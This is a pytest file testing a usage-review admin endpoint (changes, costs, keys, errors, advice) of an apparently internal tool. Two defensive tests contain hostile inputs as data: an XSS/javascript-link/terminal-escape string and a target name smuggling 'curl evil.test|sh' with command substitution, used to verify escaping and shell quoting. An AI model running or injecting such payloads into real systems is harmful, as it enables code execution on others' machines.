"""A review tells what changed, for how sure, what it cost and what follows, and nothing where nothing changed."""

from __future__ import annotations

import asyncio
import re
import shlex
import shutil
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from administered import Administered
from headgate.clock import ManualClock
from headgate.storage.records import CallRow
from periods import CALLS, MONDAY_S, WEEK_S, kept, two_weeks

NOW_US = (MONDAY_S + WEEK_S + 2 * 86_400) * 1_000_000
"""The Wednesday after the two weeks."""


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database with two weeks of which the second has changed, made once."""
    file = tmp_path_factory.mktemp("reviews") / "changed.db"

    async def fill() -> None:
        made = Administered(f"sqlite:///{file}")
        made.clock = ManualClock(NOW_US)
        async with made:
            await kept(made, two_weeks(changed=True))

    asyncio.run(fill())
    return file


@pytest.fixture
async def changed(filled: Path, tmp_path: Path) -> AsyncIterator[Administered]:
    file = tmp_path / "changed.db"
    shutil.copy(filled, file)
    made = Administered(f"sqlite:///{file}")
    made.clock = ManualClock(NOW_US)
    async with made:
        yield made


@pytest.fixture
async def administered() -> AsyncIterator[Administered]:
    """An empty one."""
    made = Administered()
    made.clock = ManualClock(NOW_US)
    async with made:
        yield made


def told(review: Any, which: str) -> set[tuple[str, str]]:
    return {(each["name"], each["measure"]) for each in review[which]}


async def test_what_changed_is_told_with_intervals_around_it(changed: Administered):
    review = (await changed.ask("GET", "/admin/reviews", period="week")).json
    assert (review["from"], review["to"]) == ("2026-11-09T00:00:00Z", "2026-11-16T00:00:00Z")
    assert (review["calls"], review["calls_before"]) == (CALLS, CALLS)
    worse = told(review, "worse")
    assert worse >= {
        ("sim/slow", "attempt_failure_rate"), ("sim/slow", "attempt_duration_p95"), ("dear", "cost_per_call"),
        ("sim/dear", "cost_per_attempt"), ("chat", "failure_rate"), ("chat", "duration_p95"),
    }  # fmt: skip
    assert not any(name == "sim/steady" for name, _ in worse)
    [slow] = [each for each in review["worse"] if each["measure"] == "attempt_duration_p95"]
    assert slow["ratio"]["low"] < 1.6 < slow["ratio"]["high"]
    [dear] = [each for each in review["worse"] if (each["name"], each["measure"]) == ("dear", "cost_per_call")]
    assert dear["ratio"]["estimate"] == pytest.approx(2)


async def test_costs_are_exact_and_say_why(changed: Administered):
    rows = two_weeks(changed=True)
    review = (await changed.ask("GET", "/admin/reviews", period="week")).json
    spent = sum(attempt.cost_picodollars or 0 for _, attempt in rows[CALLS:])
    assert review["costs"]["after_usd"] == f"{spent / 10**12:.2f}".rstrip("0").rstrip(".")
    [dear] = [each for each in review["costs"]["drivers"] if (each["dimension"], each["name"]) == ("model", "dear")]
    assert float(dear["change_usd"]) == pytest.approx(float(dear["by_volume_usd"]) + float(dear["by_price_usd"]))
    assert float(dear["by_price_usd"]) > 5 * abs(float(dear["by_volume_usd"]))


async def test_keys_errors_and_advice_follow_from_the_data(changed: Administered):
    review = (await changed.ask("GET", "/admin/reviews", period="week")).json
    assert {(each["key"], each["what"]) for each in review["keys"]} == {("key_old", "silent"), ("key_new", "new")}
    [line] = review["errors"]
    assert line["before"] < line["pattern"]["failed"]
    assert ("target", "sim/slow") in {(each["dimension"], each["name"]) for each in line["pattern"]["shares"]}
    kinds = {each["kind"] for each in review["advice"]}
    assert kinds >= {
        "target_failing", "target_slower", "target_dearer", "failures_shared", "cost_per_call", "uncached", "key_new",
        "key_silent",
    }  # fmt: skip


async def test_where_nothing_changed_hardly_anything_is_called_a_change(administered: Administered):
    await kept(administered, two_weeks(changed=False, seed=5))
    review = (await administered.ask("GET", "/admin/reviews", period="week")).json
    assert (review["worse"], review["better"], review["keys"]) == ([], [], [])
    assert {each["kind"] for each in review["advice"]} <= {"uncached"}
    assert review["looked_at"] > 20


async def test_a_day_and_a_month_are_reviewed_too(changed: Administered):
    day = (await changed.ask("GET", "/admin/reviews", period="day", ending="2026-11-10")).json
    assert (day["from"], day["to"]) == ("2026-11-09T00:00:00Z", "2026-11-10T00:00:00Z")
    assert day["calls"] == pytest.approx(CALLS / 7, abs=1)
    month = (await changed.ask("GET", "/admin/reviews", period="month", ending="2026-12-01")).json
    assert (month["from"], month["before"]) == ("2026-11-01T00:00:00Z", "2026-10-02T00:00:00Z")
    assert (month["calls"], month["calls_before"]) == (2 * CALLS, 0)


async def test_what_is_over_of_a_week_is_held_against_as_much_of_the_one_before(changed: Administered):
    """At noon of a Wednesday: calls of days to come did not stay away."""
    changed.clock.step(-(7 * 86_400) + 43_200)
    review = (await changed.ask("GET", "/admin/reviews", period="week", ending="2026-11-16")).json
    assert (review["from"], review["to"]) == ("2026-11-09T00:00:00Z", "2026-11-11T12:00:00Z")
    assert review["calls"] == pytest.approx(review["calls_before"], rel=0.1)
    assert review["calls"] < CALLS / 2
    tomorrow = await changed.ask("GET", "/admin/reviews", period="day", ending="2026-11-13")
    assert (tomorrow.status, tomorrow.params) == (422, ["ending"])


async def test_without_any_calls_it_says_so(administered: Administered):
    review = (await administered.ask("GET", "/admin/reviews", period="day")).json
    assert (review["calls"], review["worse"], review["errors"], review["advice"]) == (0, [], [], [])
    page = (await administered.ask("GET", "/admin/reviews", period="day", format="markdown")).body
    assert b"There were no calls" in page


async def test_hostile_names_are_no_markup(administered: Administered):
    rows = two_weeks(changed=False)[:: CALLS // 200]
    await kept(administered, [(_named(call), replace(attempt, model=HOSTILE)) for call, attempt in rows])
    for kind in ("markdown", "html"):
        page = (await administered.ask("GET", "/admin/reviews", period="week", format=kind)).body.decode()
        assert "alert(1)" in page
        assert "<script>alert(1)" not in page
        assert "\x1b" not in page
        assert "\u202e" not in page
        assert kind == "html" or not re.search(r"(?<!\\)\]\(javascript:", page)


async def test_commands_of_advice_quote_names(administered: Administered):
    """They are there to be copied into a shell."""
    name = "a/b; curl evil.test|sh #$(id)`id`'"
    rows = [(replace(call, target=name), replace(attempt, target=name, code="rate_limit_exceeded"))
            for call, attempt in two_weeks(changed=False)[:: CALLS // 400]]  # fmt: skip
    await kept(administered, rows)
    review = (await administered.ask("GET", "/admin/reviews", period="week")).json
    [limited] = [each for each in review["advice"] if each["kind"] == "rate_limited"]
    assert shlex.split(limited["look"]) == ["headgate", "errors", "--of", f"target:{name}"]


HOSTILE = "<script>alert(1)</script>|[x](javascript:y)\x1b[31m\u202e"


def _named(call: CallRow) -> CallRow:
    return replace(call, model=HOSTILE, code="server_error")


@pytest.mark.parametrize("query", [{"period": "year"}, {"ending": "2026-13-01"}, {"ending": "1999-01-01"}])
async def test_what_is_no_period_is_refused(administered: Administered, query: dict[str, str]):
    assert (await administered.ask("GET", "/admin/reviews", **query)).status == 422
